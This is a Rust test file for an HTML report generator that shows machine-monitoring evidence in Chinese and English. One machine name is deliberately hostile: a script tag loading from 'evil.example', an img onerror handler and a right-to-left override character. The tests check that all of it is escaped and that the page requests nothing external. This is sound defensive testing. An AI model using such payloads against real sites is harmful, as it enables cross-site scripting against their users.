//! The page of a hand-made document: what must hold whatever verification will put into it. The pages are
//! left in cargo's directory for test output, to be looked at.

#![expect(clippy::unwrap_used, clippy::too_many_lines, reason = "a test, and one long hand-made document")]

use report::chart::{Fill, Frame, energy, timeline};
use report::model::{
    Bar, Document, Fact, Finding, Head, KpiBlock, LegendEntry, Level, Missing, Step, Table, TableRow, Verdict,
};
use report::{Lang, html};

const HOSTILE: &str =
    "\"><script src=https://evil.example/x.js></script><img src=x onerror=alert(1)>\u{202e}olleh";

fn names() -> Vec<String> {
    vec![
        "五轴加工中心 1 号".into(),
        "冲床 3 号 · Stanzpresse".into(),
        HOSTILE.into(),
        "מכונת כרסום 5".into(),
        "很长的名字".repeat(40),
        "焊接机器人 7".into(),
    ]
}

fn legend(lang: Lang) -> Vec<LegendEntry> {
    let words = [
        (5, "加工", "producing"),
        (4, "调试/换型", "setup"),
        (6, "暂停", "held"),
        (7, "等待", "waiting"),
        (8, "待机", "idle"),
        (1, "关机", "off"),
        (3, "维护", "maintenance"),
        (2, "故障", "fault"),
        (0, "未知", "unknown"),
    ];
    let mut all: Vec<LegendEntry> = words
        .iter()
        .map(|(n, zh, en)| LegendEntry { swatch: Fill::State(*n).swatch(), name: lang.t(zh, en).into() })
        .collect();
    all.push(LegendEntry {
        swatch: Fill::Down.swatch(), name: lang.t("采集端停机", "agent down").into()
    });
    all.push(LegendEntry { swatch: Fill::Gap.swatch(), name: lang.t("无记录", "no record").into() });
    all
}

fn charts() -> (String, String) {
    let start = 1_770_000_000;
    let frame = Frame { from: start, to: start + 86_400, offset_min: 480 };
    let mut states = Vec::new();
    let mut strips = Vec::new();
    for (i, name) in names().into_iter().enumerate() {
        let mut cells = Vec::new();
        let mut bars = Vec::new();
        for slot in 0..96i64 {
            let (from, to) = (start + slot * 900, start + slot * 900 + 900);
            let mut states_ms = [0u64; 9];
            let main = [1usize, 5, 5, 8, 5, 6, 7, 2, 5, 4, 3, 0][usize::try_from(slot / 8).unwrap()];
            states_ms[main] = 600_000;
            states_ms[(main + i) % 9] += 300_000;
            let gap = (40..46).contains(&slot) && i != 1;
            let down = (70..72).contains(&slot);
            cells.push(timeline::Cell {
                from,
                to,
                states_ms: if gap || down { [0; 9] } else { states_ms },
                down_ms: if down { 900_000 } else { 0 },
                gap_ms: if gap { 900_000 } else { 0 },
            });
            let wh = 1_000 * (2_000 + u64::try_from((slot * 7919) % 977).unwrap());
            bars.push(energy::Cell {
                from,
                to,
                mwh: (!gap && !down).then_some((wh, if slot % 17 == 3 { wh * 2 } else { wh })),
                bridged: slot == 46 || slot == 72,
            });
        }
        states.push(timeline::Row { name: name.clone(), remark: "加工 48.2 %".into(), cells });
        strips.push(energy::Row { name, remark: "231.4 kWh".into(), cells: bars });
    }
    (
        timeline::svg(frame, "状态时间线", &states),
        energy::svg(frame, "用电", &strips, |mwh| {
            format!("{}.{} kWh / 15 min", mwh / 1_000_000, mwh / 100_000 % 10)
        }),
    )
}

fn document(lang: Lang) -> Document {
    let t = |zh: &str, en: &str| lang.t(zh, en).to_owned();
    let (timeline, energy) = charts();
    let verdict = |zh: &str, en: &str, level, answer: &str| Verdict {
        name: t(zh, en),
        question: t(
            "记录是否由登记过的采集端签署，之后没有人改过？",
            "Were the records signed by the enrolled agents and not altered since?",
        ),
        level,
        answer: answer.into(),
        sentence: t(
            "全部 1,284 条签名记录都由名册中的密钥签署，逐条列入公开日志；改动、删去或插入任何一条都会使核验失败。",
            "All 1,284 signed records bear a key of the roster and are in the log; changing, dropping or inserting any of them would make verification fail.",
        ),
        details: vec![
            t("签名 1,284 条，全部有效", "1,284 signatures, all valid"),
            t("日志大小 1,290", "tree size 1,290"),
        ],
        ask: if level == Level::Good {
            String::new()
        } else {
            t(
                "说明 10:00 至 11:30 采集端为何停机，并提供停机记录。",
                "Explain why the agent was off from 10:00 to 11:30 and provide its records.",
            )
        },
    };
    Document {
        lang,
        demo: true,
        project: "SY-2024-017".into(),
        period: t(
            "2026-02-02 10:40:00 – 2026-02-03 10:40:00（UTC+08:00）",
            "2026-02-02 10:40:00 – 2026-02-03 10:40:00 (UTC+08:00)",
        ),
        summary: t(
            "证据真实，但不完整：缺 2 小时 30 分。补齐说明之前，不宜据此核定。",
            "The evidence is authentic but not complete: 2 h 30 min are missing. Do not settle on it before that is explained.",
        ),
        level: Level::Bad,
        identity: vec![Fact::code(
            lang.t("检查点哈希值", "Checkpoint hash"),
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        )],
        verdicts: vec![
            verdict("真实", "Authentic", Level::Good, lang.t("是", "yes")),
            verdict("时间依据", "Time evidence", Level::Caution, lang.t("仅由运营方证明", "operator only")),
            verdict("完整", "Complete", Level::Bad, lang.t("否", "no")),
            verdict("合理", "Plausible", Level::Note, lang.t("2 处可疑", "2 findings")),
        ],
        defects: vec![],
        nothing_missing: String::new(),
        nothing_found: String::new(),
        missing: names()
            .into_iter()
            .map(|who| Missing {
                who,
                range: "2026-02-02 20:40:00 – 22:10:00".into(),
                length: t("1 小时 30 分", "1 h 30 min"),
                kind: t("没有签名记录", "no signed record"),
                ask: t("采集端日志；停电或检修单", "agent's log; power-cut or repair sheet"),
            })
            .collect(),
        missing_unlisted: 3,
        kpis: (0..4)
            .map(|i| KpiBlock {
                name: t("开机率", "Power-on rate"),
                other_name: lang.t("Power-on rate", "开机率").into(),
                id: "cn.power_on_rate".into(),
                value: "60.12 – 71.34".into(),
                unit: "%".into(),
                undefined: if i == 3 {
                    t("本期件数为 0。", "no parts in this period.")
                } else {
                    String::new()
                },
                provisional: i == 1,
                bar: Some(Bar { lower: 6012, upper: 7134 }),
                facts: vec![
                    Fact::new(
                        lang.t("公式", "Formula"),
                        t("非关机的已知时间 ÷ 日历时间", "known time not OFF ÷ calendar time"),
                    ),
                    Fact::new(lang.t("分子", "Numerator"), "51,943.000 – 61,637.760 s"),
                    Fact::new(lang.t("分母", "Denominator"), "86,400.000 s"),
                    Fact::new(lang.t("边界", "Boundary"), t("6 台设备", "6 machines")),
                    Fact::new(lang.t("覆盖率", "Coverage"), "93.75 %"),
                    Fact::code(
                        lang.t("记录哈希", "Records hash"),
                        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                    ),
                ],
            })
            .collect(),
        periods: Table::default(),
        machines: Table {
            heads: [
                ("设备", false),
                ("产线", false),
                ("采集端", false),
                ("等级", false),
                ("开机率 %", true),
                ("用电量 kWh", true),
                ("件数", true),
            ]
            .map(|(text, number)| Head { text: text.into(), number })
            .to_vec(),
            rows: names()
                .into_iter()
                .map(|name| TableRow {
                    name,
                    id: "cnc-01".into(),
                    cells: ["A", "edge-07", "B", "60.12 – 71.34", "231.400", "1,204"]
                        .map(String::from)
                        .to_vec(),
                })
                .collect(),
        },
        states: Table {
            heads: vec![],
            rows: names()
                .into_iter()
                .map(|name| TableRow {
                    name,
                    id: String::new(),
                    cells: [
                        "13:20:09", "0:20:00", "", "1:20:00", "", "", "0:00:10", "", "", "0:30:00", "1:30:00",
                    ]
                    .map(String::from)
                    .to_vec(),
                })
                .collect(),
        },
        legend: legend(lang),
        timeline,
        energy,
        findings_unlisted: 0,
        findings: vec![Finding {
            code: "F-CONSTANT".into(),
            level: Level::Caution,
            text: t("电量连续 40 个窗口完全相同", "energy identical in 40 windows in a row"),
            places: vec![format!("{HOSTILE} · 2026-02-02 20:40:00 – 22:10:00")],
            ask: t("到现场查看电表。", "Look at the meter on site."),
        }],
        time: vec![Fact::new(lang.t("时钟状态", "Clock"), t("已同步", "synchronised"))],
        method: vec![Fact::new(lang.t("时区", "Zone"), "UTC+08:00")],
        steps: vec![Step {
            title: t("核对文件清单", "Check the file list"),
            text: t("应逐行显示 OK。", "Each line must say OK."),
            code: "unzip -q bundle.zip && cd SY-2024-017\nsha256sum --check manifest-sha256.txt".into(),
        }],
    }
}

fn page(lang: Lang) -> String {
    html::page(&document(lang)).unwrap()
}

#[test]
fn a_hostile_machine_name_stays_text_and_cannot_turn_the_page_round() {
    for lang in [Lang::Zh, Lang::En] {
        let page = page(lang);
        assert!(!page.contains("<script") && !page.contains("<img"), "markup came through");
        assert!(!page.contains('\u{202e}') && page.contains("⟨U+202E⟩olleh"));
        assert!(
            page.contains("&#60;script src=https://evil.example")
                || page.contains("&lt;script src=https://evil.example")
        );
    }
}

#[test]
fn the_page_asks_nobody_for_anything() {
    let page = page(Lang::Zh);
    let foreign = page.matches("://").count();
    let inert = page.matches("http://www.w3.org/2000/svg").count() + page.matches("://evil").count();
    assert_eq!(foreign, inert, "an address that is neither a name space nor escaped text");
    for word in ["<link", "@import", "<iframe", "url(http", "<object", " src=\"", "<a "] {
        assert!(!page.contains(word), "{word}");
    }
    assert!(page.contains("default-src 'none'"));
}

#[test]
fn a_demonstration_says_so_in_both_languages_at_both_ends() {
    for lang in [Lang::Zh, Lang::En] {
        assert_eq!(page(lang).matches("演示，不是证据 · Demonstration, not evidence").count(), 2);
        let real = Document { demo: false, ..document(lang) };
        assert!(!html::page(&real).unwrap().contains("不是证据"));
    }
}

#[test]
fn the_same_document_gives_the_same_bytes_and_is_left_to_be_looked_at() {
    for lang in [Lang::Zh, Lang::En] {
        let (once, again) = (page(lang), page(lang));
        assert_eq!(once, again);
        std::fs::write(format!("{}/report-{lang}.html", env!("CARGO_TARGET_TMPDIR")), once).unwrap();
    }
}
